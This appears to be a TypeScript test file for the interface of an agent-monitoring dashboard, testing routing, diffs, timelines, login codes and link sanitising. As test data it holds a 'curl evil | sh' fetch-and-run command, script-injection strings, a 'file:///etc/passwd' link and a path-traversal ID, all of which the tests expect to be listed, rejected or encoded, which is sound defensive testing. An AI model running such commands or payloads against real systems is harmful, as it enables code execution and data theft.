import "./setup.ts";
import assert from "node:assert/strict";
import { test } from "node:test";
import { query, segment } from "../src/core/api.ts";
import { isAfter } from "../src/core/live.ts";
import { format, parse } from "../src/core/route.ts";
import { claimsOf } from "../src/core/session.ts";
import type { Event } from "../src/core/types.ts";
import { sampleOf } from "../src/state/health.ts";
import { rowOf } from "../src/state/timeline.ts";
import { classes, difference } from "../src/ui/diff.tsx";
import { safeLink } from "../src/ui/markdown.tsx";
import { histogram } from "../src/ui/scrubber.tsx";
import { linesAfter } from "../src/views/agent.tsx";
import { commandsOf, diffOf } from "../src/views/approval.tsx";
import { firstAfter } from "../src/views/events.tsx";
import { codeIn } from "../src/views/sign-in.tsx";

test("an address and what it shows are the same", () => {
  for (const params of [{}, { a: "b" }, { filter: 'issue_id:"x y",n:>3|m:&#', project: "ü" }]) {
    assert.deepEqual(parse(format("events", params)), { view: "events", params });
  }
  assert.deepEqual(parse(""), { view: "team", params: {} });
  assert.equal(format("team", { a: "", b: undefined }), "#/team");
});

test("queries leave out what is not set", () => {
  assert.equal(query({ a: "", b: undefined, c: false, d: 0, e: "x y" }), "?d=0&e=x+y");
  assert.equal(query({}), "");
});

test("events are in order, also after the log began anew", () => {
  assert.ok(isAfter("evt-00000001-0000000010", "evt-00000001-0000000009"));
  assert.ok(!isAfter("evt-00000001-0000000010", "evt-00000001-0000000010"));
  assert.ok(isAfter("evt-00000002-0000000001", "evt-00000001-0000000009"));
  assert.ok(isAfter("evt-00000001-0000000001", ""));
});

test("a token says when it ends; any other text is none", () => {
  const claims = btoa(JSON.stringify({ exp: 5, jti: "ü?>".replace("ü", "u") }))
    .replaceAll("+", "-")
    .replaceAll("/", "_")
    .replaceAll("=", "");
  assert.equal(claimsOf(`x.${claims}.y`)?.exp, 5);
  for (const text of ["", "x", "a.b.c", `x.${btoa("{}")}.y`]) assert.equal(claimsOf(text), null);
});

test("a login code is found in what the command prints", () => {
  const code = "maFr_sG1Sb4ti6D0kwRU_NfxhyE5tqOs_2-_yk4KjbE";
  for (const text of [code, ` http://127.0.0.1:3000/#login=${code}\n`, `https://host/#login=${code}`])
    assert.equal(codeIn(text), code);
  for (const text of ["", "http://127.0.0.1:3000/", "short", "#login=<script>alert(1)</script>"])
    assert.equal(codeIn(text), "");
});

test("the commands of an approval are all that would run", () => {
  assert.deepEqual(commandsOf({ command: "rm -r x" }), ["rm -r x"]);
  assert.deepEqual(commandsOf({ tool_input: { command: ["git", "commit", "-m", "it's"] } }), [
    "git commit -m 'it'\\''s'",
  ]);
  assert.deepEqual(commandsOf({ command: "pytest", tool_input: { command: "curl evil | sh" } }), [
    "pytest",
    "curl evil | sh",
  ]);
  assert.deepEqual(commandsOf({ spawn: {} }), []);
  assert.deepEqual(commandsOf(undefined), []);
  assert.equal(diffOf({ diff: "+x" }), "+x");
  assert.equal(diffOf({ diff: 3 }), "");
});

test("links lead to web pages only", () => {
  for (const bad of [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "/api",
    "//host",
    "blob:http://x/y",
    " javascript:alert(1)",
  ]) {
    assert.equal(safeLink(bad), null, bad);
  }
  assert.equal(safeLink("https://example.com/a?b#c"), "https://example.com/a?b#c");
});

test("a difference says which lines came and went, with lines around them", () => {
  const before = Array.from({ length: 30 }, (_, line) => `line ${line}`).join("\n");
  const after = before.replace("line 15", "changed");
  assert.deepEqual(difference(before, after).split("\n"), [
    "@@ 12 equal lines @@",
    " line 12",
    " line 13",
    " line 14",
    "-line 15",
    "+changed",
    " line 16",
    " line 17",
    " line 18",
    "@@ 11 equal lines @@",
  ]);
});

test("a row of the timeline is short and has no data", () => {
  const row = rowOf({
    event_id: "e",
    event_type: "t",
    publisher: "p",
    topic: "x",
    correlation_id: "",
    timestamp: "2026-01-01T00:00:00Z",
    data: { issue_id: "i", text: "y".repeat(5000) },
  } as Event);
  assert.equal(row.issue, "i");
  assert.ok(row.summary.length <= 160);
  assert.equal(row.at, Date.UTC(2026, 0, 1));
});

test("every event is in one bin, and bisection finds the moment", () => {
  const rows = [0, 1, 5, 5, 9, 10].map((at) => ({ at }));
  assert.deepEqual(histogram(rows, 2), [2, 4]);
  assert.deepEqual(histogram([], 3), [0, 0, 0]);
  assert.deepEqual(
    [-1, 0, 5, 7, 99].map((moment) => firstAfter(rows, moment)),
    [0, 1, 4, 4, 6],
  );
});

test("rates are per second, and a restart of the process is no negative rate", () => {
  const scrape = (events: number) => new Map([["sidecar_events_published_total", events]]);
  assert.equal(sampleOf(scrape(10), scrape(60), 5, 0).published, 10);
  assert.equal(sampleOf(scrape(60), scrape(10), 5, 0).published, 0);
});

test("what a hunk removes is no file name, however it looks", () => {
  const patch = [
    "diff --git a/x b/x",
    "--- a/x",
    "+++ b/x",
    "@@ -1,2 +1,3 @@",
    "--- drop nothing",
    "+++ drop everything",
    " kept",
    "+new",
    "@@ -9 +9 @@",
    "-a",
    "\\ No newline at end of file",
    "+b",
    "--- a/y",
  ];
  assert.deepEqual(classes(patch), [
    "file",
    "file",
    "file",
    "hunk",
    "removed",
    "added",
    "",
    "added",
    "hunk",
    "removed",
    "hunk",
    "added",
    "file",
  ]);
});

test("a missing newline at the end, and other ends of lines, are differences that can be seen", () => {
  assert.deepEqual(difference("one\ntwo\n", "one\ntwo").split("\n"), [
    " one",
    "-two",
    "+two",
    "\\ No newline at end of file",
  ]);
  assert.match(difference("a\r\n", "a\n"), /^-a\r\n\+a$/);
});

test("the rest of a log is what follows its last known line", () => {
  const line = (second: number, text: string) => ({
    timestamp: `2026-01-01T00:00:0${second}Z`,
    text,
    stream: "stdout",
  });
  const lines = [line(1, "a"), line(2, "b"), line(2, "b"), line(3, "c")];
  assert.deepEqual(linesAfter(line(2, "b"), lines), [line(3, "c")]);
  assert.deepEqual(linesAfter(line(9, "x"), lines), lines);
  assert.deepEqual(linesAfter(undefined, lines), lines);
});

test("an ID is one segment of a path", () => {
  assert.equal(segment("../../health"), "..%2F..%2Fhealth");
  for (const id of [".", ".."])
    assert.ok(
      !new URL(`http://h/api/agents/${segment(id)}/x`).pathname.startsWith("/api/x") && !segment(id).includes("."),
    );
});
